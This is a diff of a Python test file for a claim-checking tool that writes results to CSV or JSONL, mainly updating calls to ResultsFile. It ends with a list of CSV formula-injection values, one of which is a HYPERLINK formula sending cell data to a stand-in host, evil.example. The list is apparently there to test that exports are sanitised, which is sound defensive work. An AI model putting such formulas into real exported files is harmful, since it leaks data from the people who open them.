@@ -106,7 +106,7 @@ def test_a_claim_whose_check_fails_is_a_row_with_its_error_and_the_batch_goes_on
 
 
 def write_rows(rows, path):
-    with ResultsFile(path) as out:
+    with ResultsFile(path, [row.claim for row in rows]) as out:
         for row in rows:
             out.write(row)
 
@@ -126,7 +126,7 @@ def test_results_are_written_as_a_csv_table_or_fever_predictions(checker, tmp_pa
         ["id", "claim", "predicted_label", "predicted_evidence", "error"]]  # the claim that can't be checked says why
     assert "no words" in lines[2]["error"]
     with pytest.raises(ValueError, match=r"\.csv .* \.jsonl"):
-        ResultsFile(tmp_path / "out.txt")
+        ResultsFile(tmp_path / "out.txt", [])
 
 
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
